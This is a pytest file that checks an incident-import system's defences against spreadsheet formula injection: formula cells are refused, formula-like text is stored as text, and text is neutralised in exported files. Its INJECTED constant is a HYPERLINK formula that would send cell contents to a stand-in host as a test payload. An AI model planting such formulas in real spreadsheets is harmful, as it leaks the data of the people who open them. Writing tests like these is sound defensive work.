"""Formulas are never run: a formula cell is refused with a reason; text that merely starts with "="
is stored as text, and comes out neutralised in every file we write (the to-fix file; the
de-identified data set carries no imported text at all)."""

import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from incidents.imports import services
from reporting import deidentified
from tests.incidents.import_files import KEYS, LABELS, checked, good_row, imported, problems, write_csv

pytestmark = pytest.mark.django_db
INJECTED = '=HYPERLINK("http://example.invalid/?leak="&A2,"Click")'


def test_a_formula_cell_in_an_xlsx_is_refused_never_evaluated(tmp_path, users, party):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Incidents"
    sheet.append(LABELS)
    sheet.append([good_row().get(k) or None for k in KEYS])
    sheet.append([good_row(victim_age="44").get(k) or None for k in KEYS])
    sheet.cell(row=3, column=KEYS.index("victim_age") + 1, value="=20+24")  # a real formula cell
    path = tmp_path / "formula.xlsx"
    book.save(path)
    incident_import = checked(users["SWPA"], path)
    assert [(r, k) for r, k, _reason in problems(incident_import)] == [(3, "victim_age")]
    assert "holds a formula" in problems(incident_import)[0][2]
    assert incident_import.rows_valid == 1


def test_a_formula_typed_in_a_csv_is_refused(tmp_path, users, party):
    path = write_csv(tmp_path / "formula.csv", [good_row(location="=A1&B1"), good_row(victim_age="-1+2")])
    incident_import = checked(users["SWPA"], path)
    found = {(r, k) for r, k, _reason in problems(incident_import)}
    assert {(2, "location"), (3, "victim_age")} <= found


def test_injected_formula_text_is_stored_as_text_and_neutralised_in_the_fix_file(tmp_path, users, party):
    summary = INJECTED + " armed men, Ashdale territory."
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Incidents"
    sheet.append(LABELS)
    for row in (good_row(summary=summary), good_row(summary=summary, victim_age="70", location="Atlantis")):
        sheet.append([row.get(k) or None for k in KEYS])
    for row in (2, 3):  # typed with a leading apostrophe in Excel: a text cell, not a formula
        cell = sheet.cell(row=row, column=KEYS.index("summary") + 1)
        cell.value, cell.data_type = summary, "s"
    path = tmp_path / "injected.xlsx"
    book.save(path)

    incident_import = imported(users["SWPA"], path, mode="VALID")
    incident = incident_import.incidents.get()
    assert incident.summary == summary  # text, kept as typed

    fix = openpyxl.load_workbook(io.BytesIO(services.fix_file_of(incident_import)))["Incidents"]
    rows = list(fix.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 1 and rows[0][KEYS.index("summary")] == "'" + summary
    assert not any(isinstance(v, str) and v.startswith("=") for row in rows for v in row)
    assert "Atlantis" in rows[0][-1]

    # Uploaded again, the apostrophe our file added is taken off: the text is the same.
    fixed = tmp_path / "fixed.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(services.fix_file_of(incident_import)))
    book["Incidents"].cell(row=2, column=KEYS.index("location") + 1, value="Ashdale")
    book.save(fixed)
    again = imported(users["SWPA"], fixed)
    assert again.state == "DONE" and again.incidents.get().summary == summary


def test_the_deidentified_data_set_carries_no_imported_text(tmp_path, users, party):
    path = write_csv(tmp_path / "inj.csv", [good_row(summary="'" + INJECTED)])
    incident = imported(users["SWPA"], path).incidents.get()
    assert incident.summary == INJECTED and incident.mara_shareable
    month = timezone.localdate().replace(day=1) - datetime.timedelta(days=40)
    data, *_rest = deidentified.download(users["MARA_CHAIR"], month.replace(day=1), timezone.localdate(), "xlsx")
    cells = [v for ws in openpyxl.load_workbook(io.BytesIO(data)) for row in ws.iter_rows(values_only=True)
             for v in row if isinstance(v, str)]
    assert cells and not any(v.startswith(("=", "+", "-", "@")) for v in cells)
    assert not any("HYPERLINK" in v for v in cells)
